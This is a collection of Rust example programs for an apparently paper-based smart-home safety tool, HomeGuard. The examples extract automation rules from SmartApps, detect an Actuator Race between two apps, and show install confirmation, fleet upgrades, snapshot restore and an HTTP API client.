        .expect("ComfortTV extracts");
    assert!(report.installed);

    println!("=== Table II: extracted rule representation of Rule 1 ===");
    for rule in &report.rules {
        println!("{rule}");
        println!("human-readable form:\n{}\n", frontend::interpret_rule(rule));
    }

    // Paper Fig. 3: installing ColdDefender reveals the Actuator Race. The
    // dirty report comes back unconfirmed — the user decides.
    let cold_defender = hg_corpus::benign_app("ColdDefender").expect("corpus app");
    let report = home
        .install_app(cold_defender.source, cold_defender.name, None)
        .expect("ColdDefender extracts");

    println!("=== Installing ColdDefender into the same home ===");
    print!("{}", frontend::interpret_report(&report));

    assert!(
        report
            .threats
            .iter()
            .any(|t| t.kind == hg_detector::ThreatKind::ActuatorRace),
        "the Fig. 3 race must be detected"
    );
    assert!(!report.installed, "dirty installs wait for the user");

    // The user accepts the interference: the rules are recorded and the
    // race lands on the Allowed list for future chained detection.
    home.confirm_install(report);
    assert_eq!(home.installed_rules().len(), 2);
    assert!(!home.allowed().is_empty());

    // A second home shares the same store: extraction is served from cache.
    let mut neighbor = Home::new(store.clone());
    let report = neighbor
        .install_app(cold_defender.source, cold_defender.name, None)
        .expect("cached");
    assert!(
        report.is_clean(),
        "no ComfortTV in the neighbor's home, no race"
    );
    assert!(store.cache_hits() >= 1, "one extraction served both homes");

    println!("\nquickstart: OK");
}
