//! Quickstart: extract rules from a SmartApp (reproducing Table II),
//! detect the Fig. 3 Actuator Race between ComfortTV and ColdDefender,
//! and walk the full app lifecycle — install, confirm, upgrade,
//! uninstall — through the fleet service.
//!
//! Run with: `cargo run -p homeguard-examples --bin quickstart`

use hg_service::{frontend, Fleet, RuleStore};

fn main() {
    // The fleet is the service surface: one shared rule store, many homes.
    let fleet = Fleet::new(RuleStore::shared());
    let home = fleet.create_home().unwrap();

    // Paper Listing 1: ComfortTV (Rule 1 of Fig. 3). Clean, so the install
    // confirms automatically.
    let comfort_tv = hg_corpus::benign_app("ComfortTV").expect("corpus app");
    let report = fleet
        .install_app(home, comfort_tv.source, comfort_tv.name, None)
        .expect("ComfortTV extracts");
    assert!(report.installed);

    println!("=== Table II: extracted rule representation of Rule 1 ===");
    for rule in &report.rules {
        println!("{rule}");
        println!("human-readable form:\n{}\n", frontend::interpret_rule(rule));
    }

    // Paper Fig. 3: installing ColdDefender reveals the Actuator Race. The
    // dirty report comes back unconfirmed — the user decides.
    let cold_defender = hg_corpus::benign_app("ColdDefender").expect("corpus app");
    let report = fleet
        .install_app(home, cold_defender.source, cold_defender.name, None)
        .expect("ColdDefender extracts");

    println!("=== Installing ColdDefender into the same home ===");
    print!("{}", frontend::interpret_report(&report));

    assert!(
        report
            .threats
            .iter()
            .any(|t| t.kind == hg_detector::ThreatKind::ActuatorRace),
        "the Fig. 3 race must be detected"
    );
    assert!(!report.installed, "dirty installs wait for the user");

    // The user accepts the interference: the rules are recorded and the
    // race lands on the Allowed list for future chained detection.
    fleet.confirm_install(home, report).expect("home exists");
    assert_eq!(
        fleet
            .with_home(home, |h| h.installed_rules().len())
            .expect("home exists"),
        2
    );

    // A second home shares the same store: extraction is served from cache.
    let neighbor = fleet.create_home().unwrap();
    let report = fleet
        .install_app(neighbor, cold_defender.source, cold_defender.name, None)
        .expect("cached");
    assert!(
        report.is_clean(),
        "no ComfortTV in the neighbor's home, no race"
    );
    assert!(
        fleet.store().cache_hits() >= 1,
        "one extraction served both homes"
    );

    // Lifecycle, forward: v2 of ColdDefender rolls out fleet-wide with a
    // single re-extraction; the first home (which still races) keeps v1
    // pending the user's verdict, the clean neighbor upgrades in place.
    let v2 = format!("{}\n// v2: store update\n", cold_defender.source);
    let rollout = fleet
        .propagate_upgrade(&v2, cold_defender.name)
        .expect("v2 extracts");
    println!(
        "=== Fleet upgrade rollout: {} upgraded, {} pending user confirmation ===",
        rollout.upgraded.len(),
        rollout.pending.len()
    );
    assert_eq!(rollout.upgraded, vec![neighbor]);
    assert_eq!(rollout.pending.len(), 1, "the racing home waits");

    // Lifecycle, backward: uninstalling ComfortTV retracts its rules,
    // retires the allowed race, and the re-checked ColdDefender is clean.
    let removed = fleet
        .uninstall_app(home, "ComfortTV")
        .expect("installed above");
    println!(
        "=== Uninstalled ComfortTV: {} rule(s) retracted, {} allowed threat(s) retired ===",
        removed.removed_rules.len(),
        removed.retired_threats
    );
    let recheck = fleet
        .check_install(home, "ColdDefender")
        .expect("still in the store");
    assert!(recheck.is_clean(), "the race died with ComfortTV");

    println!("\nquickstart: OK");
}
