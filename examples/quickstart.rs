//! Quickstart: extract rules from a SmartApp (reproducing Table II) and
//! detect the Fig. 3 Actuator Race between ComfortTV and ColdDefender.
//!
//! Run with: `cargo run -p homeguard-examples --bin quickstart`

use homeguard_core::{frontend, HomeGuard};

fn main() {
    let mut hg = HomeGuard::new();

    // Paper Listing 1: ComfortTV (Rule 1 of Fig. 3).
    let comfort_tv = hg_corpus::benign_app("ComfortTV").expect("corpus app");
    let report = hg
        .install_app(comfort_tv.source, comfort_tv.name, None)
        .expect("ComfortTV extracts");

    println!("=== Table II: extracted rule representation of Rule 1 ===");
    for rule in &report.rules {
        println!("{rule}");
        println!("human-readable form:\n{}\n", frontend::interpret_rule(rule));
    }

    // Paper Fig. 3: installing ColdDefender reveals the Actuator Race.
    let cold_defender = hg_corpus::benign_app("ColdDefender").expect("corpus app");
    let report = hg
        .install_app(cold_defender.source, cold_defender.name, None)
        .expect("ColdDefender extracts");

    println!("=== Installing ColdDefender into the same home ===");
    print!("{}", frontend::interpret_report(&report));

    assert!(
        report.threats.iter().any(|t| t.kind == hg_detector::ThreatKind::ActuatorRace),
        "the Fig. 3 race must be detected"
    );
    println!("\nquickstart: OK");
}
