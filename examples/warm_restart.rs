//! Warm restart: snapshot a running fleet, "kill the process", restore it
//! from the serialized bytes, and show that every confirmed decision —
//! installed apps, Allowed lists, handling policies, the store's ingest
//! cache — survived, while derived state (detection postings, mediation
//! points) was rebuilt rather than trusted from disk. Finishes with a
//! per-home export/import migrating one session into a second fleet, and
//! a fleet-wide forced uninstall of a store-pulled app.
//!
//! Run with: `cargo run -p homeguard-examples --bin warm_restart`

use hg_persist::FleetSnapshot;
use hg_service::{Fleet, RuleStore};

fn main() {
    let fleet = Fleet::new(RuleStore::shared());
    let alice = fleet.create_home().unwrap();
    let bob = fleet.create_home().unwrap();

    // Alice runs the Fig. 3 pair and accepts the Actuator Race; Bob runs
    // only ComfortTV.
    let comfort_tv = hg_corpus::benign_app("ComfortTV").expect("corpus app");
    let cold_defender = hg_corpus::benign_app("ColdDefender").expect("corpus app");
    fleet
        .install_app(alice, comfort_tv.source, comfort_tv.name, None)
        .expect("clean install");
    let dirty = fleet
        .install_app(alice, cold_defender.source, cold_defender.name, None)
        .expect("extraction works");
    assert!(!dirty.installed, "the race waits for the user");
    fleet.confirm_install(alice, dirty).expect("user accepts");
    fleet
        .install_app(bob, comfort_tv.source, comfort_tv.name, None)
        .expect("served from the ingest cache");

    // ---- snapshot: the only thing that survives the "crash" ------------
    let text = fleet.snapshot().expect("no shard is poisoned").to_text();
    println!(
        "=== snapshot: {} homes, {} store apps, {} bytes ===",
        fleet.len(),
        fleet.store().len(),
        text.len()
    );
    drop(fleet); // the process dies

    // ---- restore: the warm restart -------------------------------------
    let fleet = Fleet::restore(FleetSnapshot::from_text(&text).expect("intact bytes"))
        .expect("snapshot is well-formed");
    println!(
        "restored: {} homes, {} store apps",
        fleet.len(),
        fleet.store().len()
    );

    let allowed = fleet
        .with_home(alice, |h| h.allowed().len())
        .expect("alice's handle survived");
    println!("alice's Allowed list survived with {allowed} confirmed threat(s)");
    assert!(allowed >= 1);

    // Derived state was rebuilt: the Allowed race compiles back into live
    // mediation points.
    let points = fleet
        .with_home_mut(alice, |h| h.mediation_index().len())
        .expect("alice's handle survived");
    println!("...and recompiles into {points} mediation point(s)");
    assert!(points > 0);

    // Warm, not cold: re-publishing an unchanged source is a cache hit.
    let hits_before = fleet.store().cache_hits();
    fleet
        .store()
        .ingest(comfort_tv.source, comfort_tv.name)
        .expect("still extracts");
    assert_eq!(fleet.store().cache_hits(), hits_before + 1);
    println!("re-ingesting ComfortTV after the restart: cache hit, no re-extraction");

    // ---- migration: one home moves to another process ------------------
    let exported = hg_persist::home_to_text(&fleet.export_home(alice).expect("alice exists"));
    let other_process = Fleet::new(RuleStore::shared());
    let migrated = other_process
        .import_home(hg_persist::home_from_text(&exported).expect("intact bytes"))
        .expect("import journals cleanly");
    println!(
        "alice migrated to a second fleet as {migrated}: {:?}",
        other_process
            .with_home(migrated, |h| h.installed_apps())
            .expect("imported")
    );

    // ---- store-side retraction: a malicious app is pulled ---------------
    let outcome = fleet.force_uninstall("ColdDefender");
    println!(
        "force-uninstall ColdDefender: retracted from {} home(s), store retired: {}",
        outcome.removed.len(),
        outcome.store_retired
    );
    assert!(outcome.store_retired);
    assert!(!fleet.store().has_app("ColdDefender"));
    assert_eq!(
        fleet
            .with_home(alice, |h| h.allowed().len())
            .expect("alice exists"),
        0,
        "the pulled app's confirmed threats retired with it"
    );

    println!("\nwarm restart OK");
}
