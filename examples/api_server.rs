//! The fleet over the wire: start the `hg-api` HTTP frontend on a
//! loopback port, then drive a full provider workflow through it with a
//! bare `TcpStream` client — session handshake, home creation, a clean
//! and a conflicting install, user confirmation, a streamed fleet-wide
//! upgrade rollout (one NDJSON progress line per shard), and the stats
//! gauges. Everything the server returns is compared against what the
//! in-process `Fleet` reports directly.
//!
//! Run with: `cargo run -p homeguard-examples --bin api_server`

use hg_api::{ApiServer, ServerConfig, SESSION_HEADER};
use hg_rules::json::Json;
use hg_service::{Fleet, RuleStore};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;

/// One request over a fresh connection; returns (status, raw body).
fn call(
    addr: SocketAddr,
    method: &str,
    path: &str,
    token: Option<&str>,
    body: Option<&Json>,
) -> (u16, String) {
    let payload = body.map(|b| b.to_text()).unwrap_or_default();
    let mut head = format!("{method} {path} HTTP/1.1\r\nhost: fleet\r\nconnection: close\r\n");
    if let Some(token) = token {
        head.push_str(&format!("{SESSION_HEADER}: {token}\r\n"));
    }
    if !payload.is_empty() {
        head.push_str(&format!("content-length: {}\r\n", payload.len()));
    }
    head.push_str("\r\n");
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .write_all(format!("{head}{payload}").as_bytes())
        .expect("write");
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).expect("read");
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("head/body split");
    let text = String::from_utf8_lossy(&raw).into_owned();
    let status: u16 = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .expect("status code");
    (
        status,
        String::from_utf8_lossy(&raw[split + 4..]).into_owned(),
    )
}

fn json(body: &str) -> Json {
    Json::parse(body).expect("JSON body")
}

fn main() {
    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(4).build());
    let server = ApiServer::start(fleet.clone(), ServerConfig::default()).expect("bind loopback");
    let addr = server.addr();
    println!("=== hg-api serving on http://{addr} ===");

    // ---- session handshake ---------------------------------------------
    let (_, body) = call(addr, "POST", "/sessions", None, None);
    let token = json(&body)
        .get("token")
        .and_then(Json::as_str)
        .expect("session token")
        .to_string();
    println!("session issued: {token}");

    // Without it, mutating routes refuse.
    let (status, _) = call(addr, "POST", "/homes", None, None);
    assert_eq!(status, 401, "no token, no homes");

    // ---- homes + installs ----------------------------------------------
    let mut homes = Vec::new();
    for _ in 0..6 {
        let (_, body) = call(addr, "POST", "/homes", Some(&token), None);
        homes.push(json(&body).get("home").and_then(Json::as_num).unwrap());
    }
    println!("created {} homes over HTTP", homes.len());

    let comfort_tv = hg_corpus::benign_app("ComfortTV").expect("corpus app");
    let cold_defender = hg_corpus::benign_app("ColdDefender").expect("corpus app");
    let install = |name: &str, source: &str, home: i64| {
        call(
            addr,
            "POST",
            &format!("/homes/{home}/install"),
            Some(&token),
            Some(&Json::obj([
                ("source", Json::str(source)),
                ("name", Json::str(name)),
            ])),
        )
    };
    for &home in &homes {
        let (status, _) = install(comfort_tv.name, comfort_tv.source, home);
        assert_eq!(status, 200);
    }

    // The Fig. 3 conflict pair on the first home: the install comes back
    // pending with the threat verdict, and confirmation completes it.
    let (_, body) = install(cold_defender.name, cold_defender.source, homes[0]);
    let report = json(&body);
    assert_eq!(report.get("pending"), Some(&Json::Bool(true)));
    let threats = report.get("threats").and_then(Json::as_arr).unwrap();
    println!(
        "dirty install on home {}: {} threat(s), first kind {}",
        homes[0],
        threats.len(),
        threats[0].get("kind").and_then(Json::as_str).unwrap()
    );
    let (status, _) = call(
        addr,
        "POST",
        &format!("/homes/{}/confirm", homes[0]),
        Some(&token),
        Some(&Json::obj([("app", Json::str(cold_defender.name))])),
    );
    assert_eq!(status, 200, "user confirms the flagged install");

    // ---- streamed fleet-wide upgrade -----------------------------------
    let v2 = format!("{}\n// v2\n", comfort_tv.source);
    let (status, body) = call(
        addr,
        "POST",
        "/fleet/upgrades",
        Some(&token),
        Some(&Json::obj([
            ("source", Json::str(&v2)),
            ("name", Json::str(comfort_tv.name)),
        ])),
    );
    assert_eq!(status, 200);
    // Chunked NDJSON: hex-size lines interleave with payload lines; the
    // payload lines are the ones that are JSON objects.
    let lines: Vec<Json> = body
        .lines()
        .filter(|l| l.trim_start().starts_with('{'))
        .filter_map(|l| Json::parse(l).ok())
        .collect();
    let (parts, summary): (Vec<&Json>, Vec<&Json>) =
        lines.iter().partition(|l| l.get("shard").is_some());
    println!("streamed rollout: {} shard progress lines", parts.len());
    for part in &parts {
        println!(
            "  shard {}: {} upgraded",
            part.get("shard").and_then(Json::as_num).unwrap(),
            part.get("upgraded").and_then(Json::as_arr).unwrap().len()
        );
    }
    let merged = summary[0].get("rollout").expect("merged summary line");
    let upgraded = merged.get("upgraded").and_then(Json::as_arr).unwrap().len();
    let held = merged.get("pending").and_then(Json::as_arr).unwrap().len();
    println!("merged rollout: {upgraded} homes upgraded, {held} held for confirmation");
    // Home 0 runs the conflicting ColdDefender, so its upgrade is held
    // behind the re-detected Actuator Race; every other home is clean.
    assert_eq!(upgraded, homes.len() - 1);
    assert_eq!(held, 1, "the conflicted home waits for the user again");

    // ---- gauges match the in-process fleet -----------------------------
    let (_, body) = call(addr, "GET", "/stats", None, None);
    let stats = json(&body);
    assert_eq!(
        stats.get("homes").and_then(Json::as_num),
        Some(fleet.len() as i64)
    );
    assert_eq!(stats.get("sessions").and_then(Json::as_num), Some(1));
    println!("stats: {}", stats.to_text());

    server.shutdown();
    println!("=== graceful shutdown complete ===");
}
